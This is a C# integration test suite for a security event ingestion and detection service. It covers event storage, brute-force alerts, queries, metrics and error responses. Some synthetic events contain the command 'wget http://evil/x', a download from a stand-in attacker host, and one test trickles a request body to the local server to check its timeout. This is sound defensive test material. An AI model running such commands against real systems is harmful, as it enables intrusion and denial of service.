using System.Net;
using System.Text;
using System.Text.Json;
using Hydrant.Events;

namespace Hydrant.IntegrationTests;

[Collection("server")]
public sealed class ApiTests(ServerFixture fixture)
{
    private static readonly long NowMs = DateTimeOffset.UtcNow.ToUnixTimeMilliseconds();

    private HttpClient Client() => Api.Client(fixture.Server.BaseUrl);

    [Fact]
    public async Task Rejected_records_are_reported_beside_the_accepted_ones_which_are_stored()
    {
        using var client = Client();
        var ts = Api.Rfc3339(NowMs - 60_000);
        var (response, body) = await Api.PostAsync(client, $$"""
            {"timestamp":"{{ts}}","eventType":"auth.failure","sourceIP":"198.51.100.1","user":"root"}
            {"timestamp":"{{ts}}","eventType":"auth.failure","sourceIP":"not-an-ip"}
            {"timestamp":"{{ts}}","eventType":"auth.success","sourceIP":"198.51.100.1"}
            """);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(2, body.GetProperty("accepted").GetInt32());
        var rejected = Assert.Single(body.GetProperty("rejected").EnumerateArray());
        Assert.Equal(1, rejected.GetProperty("index").GetInt32());
        Assert.Contains("sourceIP", rejected.GetProperty("error").GetString(), StringComparison.Ordinal);

        var (_, page) = await Api.GetAsync(client, "v1/events?sourceIP=198.51.100.1&explain=true");
        Assert.Equal(2, page.GetProperty("events").GetArrayLength());
        Assert.Equal("root", page.GetProperty("events")[1].GetProperty("user").GetString());
        Assert.Equal("source", page.GetProperty("plan").GetProperty("index").GetString());
    }

    [Fact]
    public async Task A_body_that_arrives_too_slowly_is_answered_408_not_500()
    {
        var url = new Uri(fixture.Server.BaseUrl);
        using var tcp = new System.Net.Sockets.TcpClient();
        await tcp.ConnectAsync(IPAddress.Loopback, url.Port);
        var stream = tcp.GetStream();
        await stream.WriteAsync(Encoding.ASCII.GetBytes($"POST /v1/events HTTP/1.1\r\nHost: {url.Authority}\r\nContent-Length: 100000\r\n\r\n"));
        var answer = new byte[4096];
        var reading = stream.ReadAsync(answer).AsTask();
        // A byte at a time, far under Kestrel's minimum rate, until the server gives up on the body.
        var deadline = DateTime.UtcNow.AddSeconds(60);
        while (!reading.IsCompleted && DateTime.UtcNow < deadline)
        {
            try
            {
                await stream.WriteAsync("{"u8.ToArray());
            }
            catch (IOException)
            {
                break; // the server closed the connection after answering
            }
            await Task.WhenAny(reading, Task.Delay(250));
        }
        var read = await reading.WaitAsync(TimeSpan.FromSeconds(30));
        Assert.StartsWith("HTTP/1.1 408", Encoding.ASCII.GetString(answer, 0, read), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Resending_events_with_ids_stores_each_once()
    {
        using var client = Client();
        var lines = string.Join('\n', Enumerable.Range(0, 50).Select(i =>
            $$"""{"id":"resend-{{i}}","timestamp":{{NowMs - 1000 - i}},"eventType":"dns.query","sourceIP":"198.51.100.2"}"""));
        var (first, firstBody) = await Api.PostAsync(client, lines);
        var (second, secondBody) = await Api.PostAsync(client, lines);
        Assert.Equal(HttpStatusCode.OK, first.StatusCode);
        Assert.Equal(HttpStatusCode.OK, second.StatusCode);
        Assert.Equal(0, firstBody.GetProperty("duplicates").GetInt32());
        Assert.Equal(50, secondBody.GetProperty("accepted").GetInt32());
        Assert.Equal(50, secondBody.GetProperty("duplicates").GetInt32());
        var ids = await Api.QueryIdsAsync(client, "sourceIP=198.51.100.2&limit=7");
        Assert.Equal(50, ids.Count);
        Assert.Equal(50, ids.Distinct().Count());
        Assert.Equal("resend-0", ids[0]);
    }

    [Fact]
    public async Task One_event_is_read_back_by_its_id_as_stored()
    {
        using var client = Client();
        await Api.PostAsync(client, $$"""{"id":"by-id-7","timestamp":{{NowMs - 5000}},"eventType":"ssh.login","sourceIP":"198.51.100.21","user":"root","cmd":{"line":"id -u"} }""");

        var (found, stored) = await Api.GetAsync(client, "v1/events/by-id-7");
        Assert.Equal(HttpStatusCode.OK, found.StatusCode);
        Assert.Equal("application/json", found.Content.Headers.ContentType?.MediaType);
        Assert.Equal(("by-id-7", "root", "id -u"), (stored.GetProperty("id").GetString(), stored.GetProperty("user").GetString(), stored.GetProperty("cmd").GetProperty("line").GetString()));

        var (missing, problem) = await Api.GetAsync(client, "v1/events/by-id-8");
        Assert.Equal(HttpStatusCode.NotFound, missing.StatusCode);
        Assert.Contains("by-id-8", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.BadRequest, (await Api.GetAsync(client, "v1/events/" + new string('x', 129))).Response.StatusCode);
    }

    [Fact]
    public async Task A_rule_says_what_it_detects_its_attack_techniques_and_its_yaml()
    {
        using var client = Client();
        var (response, rule) = await Api.GetAsync(client, "v1/rules/7d4b2a10-3c5e-4f61-9a7b-8c9d0e1f2a30");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("SSH Brute Force", rule.GetProperty("title").GetString());
        Assert.Contains("password guessing", rule.GetProperty("description").GetString(), StringComparison.Ordinal);
        Assert.Equal(["T1110.001"], rule.GetProperty("attack").GetProperty("techniques").EnumerateArray().Select(t => t.GetString()));
        Assert.Equal(["credential-access"], rule.GetProperty("attack").GetProperty("tactics").EnumerateArray().Select(t => t.GetString()));
        Assert.Equal("A misconfigured client retrying with a stale password", rule.GetProperty("falsepositives")[0].GetString());
        Assert.Contains("type: event_count", rule.GetProperty("yaml").GetString(), StringComparison.Ordinal);

        // The list describes every rule the same way, without the YAML.
        var (_, list) = await Api.GetAsync(client, "v1/rules");
        var listed = list.GetProperty("rules").EnumerateArray().Single(r => r.GetProperty("id").GetString() == "7d4b2a10-3c5e-4f61-9a7b-8c9d0e1f2a30");
        Assert.Equal("T1110.001", listed.GetProperty("attack").GetProperty("techniques")[0].GetString());
        Assert.False(listed.TryGetProperty("yaml", out _));
    }

    [Fact]
    public async Task An_alert_is_explained_with_its_rule_its_events_as_stored_and_what_matched_in_each()
    {
        using var client = Client();
        var failures = string.Join('\n', Enumerable.Range(0, 12).Select(i =>
            $$"""{"id":"explain-{{i}}","timestamp":{{NowMs - 60_000 + (i * 1000)}},"eventType":"auth.failure","sourceIP":"198.51.100.77","user":"admin{{i}}","logsource":{"product":"hydrant","service":"auth"} }"""));
        Assert.Equal(HttpStatusCode.OK, (await Api.PostAsync(client, failures)).Response.StatusCode);

        // Found by the rule's exact title and the attacker's address.
        JsonElement listed = default;
        await Eventually.TrueAsync(async () => (await Api.GetAsync(client, "v1/alerts?rule=" + Uri.EscapeDataString("SSH Brute Force") + "&sourceIP=198.51.100.77")).Body.GetProperty("alerts") is { } alerts
            && alerts.GetArrayLength() == 1 && (listed = alerts[0]).GetProperty("count").GetInt32() == 12, "the brute force raised one alert counting all twelve failures");

        var (response, explained) = await Api.GetAsync(client, "v1/alerts/" + listed.GetProperty("id").GetString());
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(listed.GetProperty("id").GetString(), explained.GetProperty("alert").GetProperty("id").GetString());
        Assert.Equal("SSH Brute Force", explained.GetProperty("rule").GetProperty("title").GetString());
        Assert.Contains("type: event_count", explained.GetProperty("rule").GetProperty("yaml").GetString(), StringComparison.Ordinal);
        var events = explained.GetProperty("events").EnumerateArray().ToList();
        Assert.Equal(12, events.Count);
        Assert.Equal(0, explained.GetProperty("eventsNotShown").GetInt32());
        foreach (var e in events)
        {
            // The whole stored event, the attacker's user names included, and why it counted.
            var stored = e.GetProperty("event");
            Assert.Equal(e.GetProperty("id").GetString(), stored.GetProperty("id").GetString());
            Assert.StartsWith("admin", stored.GetProperty("user").GetString(), StringComparison.Ordinal);
            var matched = Assert.Single(e.GetProperty("matched").EnumerateArray());
            Assert.Equal("Authentication Failure", matched.GetProperty("title").GetString());
            var selection = Assert.Single(matched.GetProperty("selections").EnumerateArray());
            Assert.Equal(("selection", true), (selection.GetProperty("name").GetString(), selection.GetProperty("matched").GetBoolean()));
            Assert.Equal("auth.failure", selection.GetProperty("fields").GetProperty("eventType").GetString());
        }

        Assert.Equal(HttpStatusCode.NotFound, (await Api.GetAsync(client, "v1/alerts/01ARZ3NDEKTSV4RRFFQ69G5FAV")).Response.StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await Api.GetAsync(client, "v1/alerts/not-an-alert-id")).Response.StatusCode);
    }

    [Fact]
    public async Task Events_are_searched_by_any_field_newest_first_in_pages_that_cover_every_match_once()
    {
        using var client = Client();
        // 120 events of one source; every tenth by root running wget, one of them at the oldest end.
        var body = string.Join('\n', Enumerable.Range(0, 120).Select(i =>
            $$"""{"id":"field-{{i}}","timestamp":{{NowMs - 600_000 + (i * 1000)}},"eventType":"shell","sourceIP":"198.51.100.88","user":"{{(i % 10 == 0 ? "root" : "user" + i)}}","cmd":{"line":"{{(i % 20 == 0 ? "wget http://evil/x" : "ls")}}"} }"""));
        Assert.Equal(HttpStatusCode.OK, (await Api.PostAsync(client, body)).Response.StatusCode);
        var range = $"sourceIP=198.51.100.88&from={Api.Rfc3339(NowMs - 700_000)}&to={Api.Rfc3339(NowMs)}";

        var roots = await Api.QueryIdsAsync(client, range + "&field.user=ROOT&limit=4");
        Assert.Equal(Enumerable.Range(0, 12).Select(i => $"field-{110 - (i * 10)}"), roots);
        Assert.Equal(["field-100", "field-80", "field-60", "field-40", "field-20", "field-0"], await Api.QueryIdsAsync(client, range + "&field.user=root&field.cmd.line=wget*"));
        Assert.Empty(await Api.QueryIdsAsync(client, range + "&field.user=nobody"));

        // The plan says how many events were examined; a page that reached the bound says so and goes on.
        var (_, first) = await Api.GetAsync(client, "v1/events?" + range + "&field.user=nobody&explain=true");
        var plan = first.GetProperty("plan");
        Assert.Equal(ServerFixture.MaxExaminedPerPage, plan.GetProperty("eventsExamined").GetInt64());
        Assert.True(plan.GetProperty("examinedBound").GetBoolean());
        Assert.Equal(0, first.GetProperty("events").GetArrayLength());
        Assert.NotNull(first.GetProperty("next").GetString());

        var (bad, problem) = await Api.GetAsync(client, "v1/events?field.a..b=x");
        Assert.Equal(HttpStatusCode.BadRequest, bad.StatusCode);
        Assert.Contains("single dots", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_pipeline_history_has_rates_that_add_up_to_what_was_accepted_and_every_consumer()
    {
        using var client = Client();
        var (_, before) = await Api.GetAsync(client, "v1/stats");
        var acceptedBefore = before.GetProperty("ingest").GetProperty("accepted").GetInt64();
        var body = string.Join('\n', Enumerable.Range(0, 300).Select(i => $$"""{"id":"history-{{i}}","timestamp":{{NowMs - 5000}},"eventType":"history","sourceIP":"198.51.100.99"}"""));
        Assert.Equal(HttpStatusCode.OK, (await Api.PostAsync(client, body)).Response.StatusCode);

        JsonElement history = default;
        await Eventually.TrueAsync(async () => (history = (await Api.GetAsync(client, "v1/stats/history?seconds=600")).Body).GetProperty("samples") is { } samples
            && samples.GetArrayLength() >= 2 && samples[samples.GetArrayLength() - 1].GetProperty("ingest").GetProperty("accepted").GetInt64() >= acceptedBefore + 300,
            "a sample after the ingest");
        Assert.Equal(1, history.GetProperty("intervalSeconds").GetDouble());
        var all = history.GetProperty("samples").EnumerateArray().ToList();
        var times = all.Select(s => DateTimeOffset.Parse(s.GetProperty("at").GetString()!, System.Globalization.CultureInfo.InvariantCulture)).ToList();
        Assert.Equal(times.Order(), times);
        // Each rate is the change since the sample before: summed over time they give the change of the total.
        var summed = all.Skip(1).Select((s, i) => s.GetProperty("ingest").GetProperty("acceptedPerSecond").GetDouble() * (times[i + 1] - times[i]).TotalSeconds).Sum();
        var total = all[^1].GetProperty("ingest").GetProperty("accepted").GetInt64() - all[0].GetProperty("ingest").GetProperty("accepted").GetInt64();
        Assert.InRange(summed, total - 1, total + 1);
        Assert.Contains(all[^1].GetProperty("consumers").EnumerateArray(), c => c.GetProperty("name").GetString() == "detector");
        Assert.Equal(HttpStatusCode.BadRequest, (await Api.GetAsync(client, "v1/stats/history?seconds=0")).Response.StatusCode);

        // The same history drawn: one SVG chart per series.
        using var chart = await client.GetAsync("v1/stats/history/chart?series=ingest&seconds=600");
        Assert.Equal("image/svg+xml", chart.Content.Headers.ContentType?.MediaType);
        var svg = await chart.Content.ReadAsStringAsync();
        Assert.Contains("<svg", svg, StringComparison.Ordinal);
        Assert.Contains("accepted/s", svg, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.BadRequest, (await client.GetAsync("v1/stats/history/chart?series=cpu")).StatusCode);

        // Alerts per hour: the last 24 UTC hours, this one last; and the partition heat as bars.
        var hours = history.GetProperty("alertsPerHour").EnumerateArray().ToList();
        Assert.Equal(24, hours.Count);
        var thisHour = DateTimeOffset.UtcNow.ToUnixTimeMilliseconds() / 3_600_000 * 3_600_000;
        Assert.InRange(Timestamps.ParseCanonical(hours[^1].GetProperty("hour").GetString()!), thisHour - 3_600_000, thisHour);
        Assert.All(hours, h => Assert.True(h.GetProperty("raised").GetInt64() >= 0));
        Assert.Contains("Alerts raised per hour", await client.GetStringAsync("v1/stats/history/chart?series=alerts-per-hour"), StringComparison.Ordinal);
        Assert.Contains("Events per shard (busiest / mean", await client.GetStringAsync("v1/stats/history/chart?series=heat"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_body_over_the_limit_is_refused_with_413_and_nothing_of_it_is_stored()
    {
        using var client = Client();
        var line = $$"""{"timestamp":{{NowMs - 5000}},"eventType":"big","sourceIP":"198.51.100.3","pad":"{{new string('x', 1000)}}"}""" + "\n";
        var body = new StringBuilder();
        while (body.Length <= ServerFixture.MaxBodyBytes)
        {
            body.Append(line);
        }
        // Expect: 100-continue lets the server refuse before the body is sent. Without it the server
        // answers 413 and closes mid-upload (it will not drain more than its limit), and the client
        // may see the reset before the answer.
        using var request = new HttpRequestMessage(HttpMethod.Post, "v1/events") { Content = new StringContent(body.ToString()) };
        request.Headers.ExpectContinue = true;
        using var response = await client.SendAsync(request);
        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
        var problem = JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement;
        Assert.Equal("body too large", problem.GetProperty("error").GetString());
        var (_, page) = await Api.GetAsync(client, "v1/events?sourceIP=198.51.100.3");
        Assert.Equal(0, page.GetProperty("events").GetArrayLength());
    }

    [Theory]
    [InlineData("v1/events?from=yesterday", "from")]
    [InlineData("v1/events?limit=0", "limit")]
    [InlineData("v1/events?limit=10001", "limit")]
    [InlineData("v1/events?cursor=zzz", "cursor")]
    [InlineData("v1/events?from=2026-01-02T00:00:00Z&to=2026-01-01T00:00:00Z", "to must be after from")]
    public async Task Bad_query_parameters_get_400_naming_the_parameter(string path, string named)
    {
        using var client = Client();
        var (response, problem) = await Api.GetAsync(client, path);
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        Assert.Contains(named, problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_unknown_query_parameter_is_a_400_naming_it_on_every_endpoint_never_ignored()
    {
        using var client = Client();
        var openapi = JsonDocument.Parse(await client.GetStringAsync("openapi/v1.json")).RootElement;
        var endpoints = openapi.GetProperty("paths").EnumerateObject()
            .SelectMany(path => path.Value.EnumerateObject().Select(method => (Method: method.Name.ToUpperInvariant(), Path: path.Name)))
            .Concat([("GET", "/healthz"), ("GET", "/readyz"), ("GET", "/metrics"), ("GET", "/openapi/v1.json")])
            .ToList();
        Assert.Contains(("GET", "/v1/events"), endpoints);
        Assert.Contains(("POST", "/v1/events"), endpoints);
        Assert.Contains(("GET", "/v1/alerts"), endpoints);
        Assert.True(endpoints.Count >= 16, $"only {endpoints.Count} endpoints in the OpenAPI document");
        // The document lists the parameters each endpoint takes, the very ones it accepts.
        string[] ParametersOf(string path, string method) => [.. openapi.GetProperty("paths").GetProperty(path).GetProperty(method)
            .GetProperty("parameters").EnumerateArray().Select(p => p.GetProperty("name").GetString()!)];
        Assert.Equal(["sourceIP", "eventType", "from", "to", "limit", "cursor", "explain", "field.{name}"], ParametersOf("/v1/events", "get"));
        Assert.Contains("status", ParametersOf("/v1/alerts", "get"));
        Assert.Contains("position", ParametersOf("/v1/events", "post"));
        foreach (var (method, path) in endpoints)
        {
            var concrete = path.Replace("{id}", "x", StringComparison.Ordinal).Replace("{date}", "2026-01-01", StringComparison.Ordinal).TrimStart('/');
            using var request = new HttpRequestMessage(new HttpMethod(method), concrete + "?user=root") { Content = method == "GET" ? null : new StringContent("{}") };
            using var response = await client.SendAsync(request);
            Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{method} {path}?user=root answered {(int)response.StatusCode}");
            var problem = JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement;
            Assert.Contains("unknown parameter 'user'", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
        }

        // A misspelt filter is refused, not answered with everything.
        var (misspelt, body) = await Api.GetAsync(client, "v1/events?sourceIp=198.51.100.9");
        Assert.Equal(HttpStatusCode.BadRequest, misspelt.StatusCode);
        Assert.Contains("sourceIP", body.GetProperty("detail").GetString(), StringComparison.Ordinal);
        var (known, _) = await Api.GetAsync(client, "v1/events?sourceIP=198.51.100.9&limit=5&explain=true");
        Assert.Equal(HttpStatusCode.OK, known.StatusCode);
    }

    [Fact]
    public async Task Unreadable_bodies_unknown_formats_and_paths_get_json_errors_without_stack_traces()
    {
        using var client = Client();
        var (unreadable, problem) = await Api.PostAsync(client, "[{\"timestamp\":1,");
        Assert.Equal(HttpStatusCode.BadRequest, unreadable.StatusCode);
        Assert.Equal("unreadable body", problem.GetProperty("error").GetString());

        var (format, formatProblem) = await Api.PostAsync(client, "{}"u8.ToArray(), "v1/events?format=bogus");
        Assert.Equal(HttpStatusCode.BadRequest, format.StatusCode);
        Assert.Contains("bogus", formatProblem.GetProperty("detail").GetString(), StringComparison.Ordinal);

        var (missing, notFound) = await Api.GetAsync(client, "v1/nothing-here");
        Assert.Equal(HttpStatusCode.NotFound, missing.StatusCode);
        Assert.Equal(404, notFound.GetProperty("status").GetInt32());
        Assert.DoesNotContain("   at ", notFound.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Health_readiness_metrics_stats_and_openapi_are_served()
    {
        using var client = Client();
        await Api.PostAsync(client, $$"""{"timestamp":{{NowMs - 1000}},"eventType":"metrics.probe","sourceIP":"198.51.100.4"}""");

        var (health, _) = await Api.GetAsync(client, "healthz");
        Assert.Equal(HttpStatusCode.OK, health.StatusCode);
        var (ready, readiness) = await Api.GetAsync(client, "readyz");
        Assert.Equal(HttpStatusCode.OK, ready.StatusCode);
        Assert.Equal("healthy", readiness.GetProperty("backends").GetProperty("spool").GetProperty("status").GetString());

        var metrics = await client.GetStringAsync("metrics");
        // Counters are typed as counters, so rate() and resets work; levels as gauges.
        Assert.Contains("# TYPE hydrant_ingest_events_accepted counter", metrics, StringComparison.Ordinal);
        Assert.Contains("# TYPE hydrant_alerts_raised counter", metrics, StringComparison.Ordinal);
        Assert.Contains("# TYPE hydrant_dead_letters counter", metrics, StringComparison.Ordinal);
        Assert.Contains("# TYPE hydrant_alert_feed_dropped counter", metrics, StringComparison.Ordinal);
        Assert.Contains("# TYPE hydrant_spool_depth gauge", metrics, StringComparison.Ordinal);
        Assert.Contains("# TYPE hydrant_correlation_groups gauge", metrics, StringComparison.Ordinal);
        Assert.Matches("\nhydrant_ingest_events_accepted [1-9]", metrics);

        var (_, stats) = await Api.GetAsync(client, "v1/stats");
        Assert.True(stats.GetProperty("ingest").GetProperty("accepted").GetInt64() >= 1);
        Assert.Equal(100, stats.GetProperty("shards").GetProperty("writes").GetArrayLength());
        Assert.True(stats.GetProperty("shards").GetProperty("writes").EnumerateArray().Sum(w => w.GetInt64()) >= 1);
        // Write amplification: every stored event cost the engine its inserts (at least the spool entry, main row, source index and id) and WAL bytes.
        var storage = stats.GetProperty("storage");
        Assert.True(storage.GetProperty("memtableInsertsPerEvent").GetDouble() >= 4, storage.GetRawText());
        Assert.True(storage.GetProperty("walBytesPerEvent").GetDouble() > 50, storage.GetRawText());

        var openapi = await client.GetStringAsync("openapi/v1.json");
        Assert.Contains("\"/v1/events\"", openapi, StringComparison.Ordinal);
        Assert.Contains("\"/v1/stats\"", openapi, StringComparison.Ordinal);
    }
}
